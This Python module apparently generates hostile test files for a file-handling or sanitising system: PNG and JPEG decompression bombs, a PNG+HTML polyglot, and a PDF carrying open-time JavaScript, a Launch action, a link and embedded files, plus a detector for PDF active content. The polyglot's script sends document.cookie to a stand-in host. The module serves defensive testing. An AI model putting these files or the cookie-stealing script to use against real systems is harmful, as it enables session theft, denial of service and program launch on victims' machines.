"""Files an attacker sends: decompression bombs, a PNG+HTML polyglot, a PDF that runs code."""

from __future__ import annotations

import io
import struct
import zlib
from typing import Any

from PIL import Image, PngImagePlugin
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    IndirectObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

HTML = b"<html><body><script>fetch('//evil.invalid/?c='+document.cookie)</script></body></html>"
# Every script, action target and embedded file of the PDF below carries this word.
MARK = b"pwned"


def _chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png_bomb(width: int = 30000, height: int = 30000) -> bytes:
    """A few hundred bytes that declare a picture of width × height pixels."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\x00" * 4096))
        + _chunk(b"IEND", b"")
    )


def jpeg_bomb(width: int = 30000, height: int = 30000) -> bytes:
    """A small real JPEG whose frame header is changed to declare width × height pixels."""
    out = io.BytesIO()
    Image.new("RGB", (8, 8), (1, 2, 3)).save(out, "JPEG")
    data = bytearray(out.getvalue())
    sof = data.index(b"\xff\xc0")
    data[sof + 5 : sof + 9] = struct.pack(">HH", height, width)
    return bytes(data)


def png_html_polyglot() -> tuple[bytes, Image.Image]:
    """A real PNG with HTML in a text chunk and after its end: a browser sniffing it as
    HTML runs the script. Returns the file and the picture it shows."""
    picture = Image.new("RGB", (12, 9), (10, 200, 30))
    picture.putpixel((3, 4), (255, 0, 0))
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", HTML.decode())
    out = io.BytesIO()
    picture.save(out, "PNG", pnginfo=info)
    return out.getvalue() + HTML, picture


def _js(code: str) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject("/JavaScript"), NameObject("/JS"): TextStringObject(code)}
    )


def pdf_with_openaction_javascript() -> bytes:
    """One page that runs JavaScript on open (document and page), launches a program and
    opens a web address from links, and carries an embedded file and a file annotation."""
    writer = PdfWriter()
    page = writer.add_blank_page(200, 200)
    root = writer._root_object
    root[NameObject("/OpenAction")] = writer._add_object(_js("app.alert('pwned open')"))
    root[NameObject("/AA")] = DictionaryObject({NameObject("/WC"): _js("app.alert('pwned close')")})
    page[NameObject("/AA")] = DictionaryObject({NameObject("/O"): _js("app.alert('pwned page')")})

    def link(action: DictionaryObject) -> IndirectObject:
        return writer._add_object(
            DictionaryObject(
                {
                    NameObject("/Type"): NameObject("/Annot"),
                    NameObject("/Subtype"): NameObject("/Link"),
                    NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (0, 0, 50, 50)]),
                    NameObject("/A"): action,
                }
            )
        )

    launch = DictionaryObject(
        {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("pwned.exe")}
    )
    uri = DictionaryObject(
        {
            NameObject("/S"): NameObject("/URI"),
            NameObject("/URI"): TextStringObject("https://pwned.invalid/"),
        }
    )
    payload = DecodedStreamObject()
    payload.set_data(b"pwned embedded payload")
    payload[NameObject("/Type")] = NameObject("/EmbeddedFile")
    spec = DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Filespec"),
            NameObject("/F"): TextStringObject("pwned.txt"),
            NameObject("/EF"): DictionaryObject({NameObject("/F"): writer._add_object(payload)}),
        }
    )
    attachment = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Annot"),
                NameObject("/Subtype"): NameObject("/FileAttachment"),
                NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (60, 60, 80, 80)]),
                NameObject("/FS"): writer._add_object(spec),
            }
        )
    )
    page[NameObject("/Annots")] = ArrayObject([link(launch), link(uri), attachment])
    writer.add_attachment("pwned-too.txt", b"pwned embedded in the names tree")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


ACTIVE_NAMES = {
    "/JS", "/JavaScript", "/OpenAction", "/AA", "/Launch", "/URI", "/EmbeddedFiles", "/EF",
    "/EmbeddedFile", "/FileAttachment",
}  # fmt: skip


def active_content(data: bytes) -> set[str]:
    """The names of scripts, actions and embedded files anywhere in a PDF (keys and values)."""
    reader = PdfReader(io.BytesIO(data))
    found: set[str] = set()
    seen: set[int] = set()
    stack: list[Any] = [reader.trailer]
    for generation, entries in reader.xref.items():
        for idnum in entries:
            stack.append(reader.get_object(IndirectObject(idnum, generation, reader)))
    while stack:
        obj = stack.pop()
        if isinstance(obj, IndirectObject) or id(obj) in seen:
            continue
        seen.add(id(obj))
        if isinstance(obj, DictionaryObject):
            found |= {k for k in obj if k in ACTIVE_NAMES}
            found |= {str(v) for v in obj.values() if str(v) in ACTIVE_NAMES}
            stack.extend(obj.values())
        elif isinstance(obj, ArrayObject):
            stack.extend(obj)
    return found
